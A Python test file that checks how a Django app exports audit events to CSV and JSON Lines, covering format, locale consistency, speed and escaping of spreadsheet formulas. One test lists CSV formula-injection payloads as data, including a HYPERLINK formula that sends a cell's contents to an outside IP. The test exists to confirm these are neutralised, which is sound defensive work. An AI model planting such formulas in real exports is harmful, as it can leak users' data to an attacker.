"""Activity as CSV and as JSON Lines."""

from __future__ import annotations

import csv
import io
import json
from time import process_time

import pytest
from django.utils.translation import override

from accounts import audit, exports
from accounts.activity import read_event
from accounts.audit import Target, Verb
from accounts.models import AuditEvent

from .events import shared

pytestmark = pytest.mark.django_db


def csv_of(entry):
    with exports.write_csv([entry]) as file:
        data = file.read()
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def json_of(entries):
    with exports.write_json_lines(entries) as file:
        return [json.loads(line) for line in file.read().decode().splitlines()]


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
@pytest.mark.parametrize("key", ["recipients", "verdicts"])
def test_a_hundred_thousand_recipients_or_verdicts_take_a_moment(mei, key, kind):
    shares = [{"account": f"account-{n}", "accountId": f"{n:032x}"} for n in range(50)]
    verdicts = [{"entry": f"account-{n}", "verdict": "unknown"} for n in range(50)]
    event = {
        "recipients": {"recipients": ["x"], "detail": {"recipients": shares}},
        "verdicts": {"reason": "entries-refused", "detail": {"verdicts": verdicts}},
    }[key]
    outcome = "refused" if key == "verdicts" else "done"
    AuditEvent.objects.bulk_create(
        [AuditEvent(verb=Verb.SHARE_IMAGE, outcome=outcome, **event) for _ in range(2000)]
    )

    started = process_time()
    response = exports.export(AuditEvent.objects.all(), kind, reader=None, limit=2000, by=mei)
    assert process_time() - started < 1

    assert response.getvalue().count(b"account-49") == 2000
    response.close()


def test_csv_has_the_format_that_spreadsheets_read(mei, owner, recipient, other):
    event = shared(mei, owner, recipient, other, acknowledged="2026-11 en")

    data, rows = csv_of(read_event(event, reader=owner))

    assert data.startswith(b'\xef\xbb\xbf"Time (UTC)","Action","Action code","Result",')
    assert data.count(b"\r\n") == data.count(b"\n") == 2
    assert dict(zip(*rows, strict=True)) == {
        "Time (UTC)": "2026-11-24T09:30:15.250Z",
        "Action": "Shared image",
        "Action code": "image.shared",
        "Result": "Succeeded",
        "Reason": "",
        "Entries": "",
        "Confirmed risk notice": "2026-11 en",
        "Actor": "mei",
        "Account": "platform",
        "Account ID": "a" * 32,
        "Access key ID": "d" * 32,
        "Channel": "API",
        "IP address": "192.0.2.1",
        "Region": "bj",
        "Resource type": "image",
        "ID": "m-abcdefgh",
        "Name": "golden",
        "Recipients": f"payments ({'b' * 32}), search ({'c' * 32})",
        "Request ID": "11111111-2222-4333-8444-555555555555",
    }


def test_json_lines_are_the_same_in_every_language(mei, owner, recipient):
    event = shared(mei, owner, recipient)

    with override("zh-hans"):
        (found,) = json_of(read_event(each, reader=owner) for each in [event])

    assert found == {
        "at": "2026-11-24T09:30:15.250Z",
        "what": "Shared image",
        "verb": "image.shared",
        "result": "Succeeded",
        "reason": "",
        "entries": [],
        "riskNotice": "",
        "by": "mei",
        "byAccount": "platform",
        "byAccountId": "a" * 32,
        "accessKeyId": "d" * 32,
        "channel": "API",
        "address": "192.0.2.1",
        "region": "bj",
        "type": "image",
        "id": "m-abcdefgh",
        "name": "golden",
        "accounts": [{"account": "payments", "accountId": "b" * 32}],
        "requestId": "11111111-2222-4333-8444-555555555555",
    }


@pytest.mark.parametrize(
    "name",
    [
        "=1+2",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u3000=1",
        "\N{NO-BREAK SPACE}@x",
        "＝1+2",
        "\u200b=1+2",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\ttab",
        "\rreturn",
        "\nline",
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1;'x')",
    ],
)
def test_no_cell_is_a_formula(owner, actor_for, name):
    target = Target(type="access-key", id="d" * 32, name=name, owner=owner)
    event = audit.record(actor_for(owner), Verb.CREATE_KEY, target=target)

    _data, (head, cells) = csv_of(read_event(event, reader=owner))
    (found,) = json_of([read_event(event, reader=owner)])

    assert cells[head.index("Name")] == f"'{name}"
    assert found["name"] == name


@pytest.mark.parametrize(
    "name", ["golden", "a=b", "1-2", "金色镜像", 'says "no", and ends', "two\r\nlines", "'=1"]
)
def test_text_that_is_not_a_formula_is_unchanged(owner, actor_for, name):
    target = Target(type="access-key", id="d" * 32, name=name, owner=owner)
    event = audit.record(actor_for(owner), Verb.CREATE_KEY, target=target)

    _data, (head, cells) = csv_of(read_event(event, reader=owner))

    assert cells[head.index("Name")] == name
